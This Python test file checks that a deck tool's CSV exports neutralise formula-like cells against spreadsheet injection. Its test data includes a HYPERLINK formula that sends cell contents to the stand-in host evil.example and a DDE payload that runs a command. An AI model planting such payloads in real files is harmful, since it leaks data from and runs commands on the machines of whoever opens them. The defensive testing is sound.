"""Every CSV the project writes neutralises formula-like text cells (``common.csvcells``):
the helper itself, then each export (decklist, legality report, gauntlet table, metagame
matrix) with a deck or card named like a formula."""

from __future__ import annotations

import csv
import io

import pytest

from common.csvcells import csv_cell, csv_cell_restore
from decks.decklist.csvio import format_csv, parse_csv
from decks.validation.report import legality_csv_rows, legality_csv_write
from rules.gauntlet import SideCounts, gauntlet_compute, rate_table_csv
from rules.metagame import PairingCounts, metagame_compute, metagame_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "-Foo"]
)
def test_formula_like_text_gets_a_quote_in_front(value):
    assert csv_cell(value) == "'" + value
    assert csv_cell_restore(csv_cell(value)) == value


@pytest.mark.parametrize("value", [-3, 2.5, "-3", "+1.5", "-0.25e3", "", None, "Elves", "a=b"])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_decklist_csv_neutralises_names_and_reads_them_back():
    text = format_csv([(2, HOSTILE, "main"), (1, "Eagle Dive", "main")])

    rows = _rows(text)
    assert rows[1] == ["2", "'" + HOSTILE, "main"]
    assert [(e.quantity, e.name) for e in parse_csv(text).entries] == [
        (2, HOSTILE),
        (1, "Eagle Dive"),
    ]


def test_legality_csv_neutralises_the_deck_name_and_messages():
    rows = legality_csv_rows(HOSTILE, None, ["-line 2: =1+1"])
    out = io.StringIO()

    legality_csv_write(out, rows)

    assert _rows(out.getvalue())[1][:5] == ["'" + HOSTILE, "unreadable", "", "", "'-line 2: =1+1"]


def test_gauntlet_csv_neutralises_labels_and_keeps_numbers():
    table = gauntlet_compute(["Hero", HOSTILE], [SideCounts(1, 4, 3, 0)])

    rows = _rows(rate_table_csv(table))

    assert rows[1][:6] == ["'" + HOSTILE, "1.000000", "4", "3", "1", "0"]
    assert rows[1][6] == "0.750000"


def test_metagame_matrix_csv_neutralises_deck_names_in_the_header_and_rows():
    metagame = metagame_compute(["@Elves", HOSTILE], [PairingCounts((0, 1), 4, (3, 1), 0)])

    rows = _rows(metagame_csv(metagame))

    assert rows[0][:3] == ["deck", "'@Elves", "'" + HOSTILE]
    assert rows[1][:3] == ["'@Elves", "", "0.750000"]
    assert rows[2][:3] == ["'" + HOSTILE, "0.250000", ""]
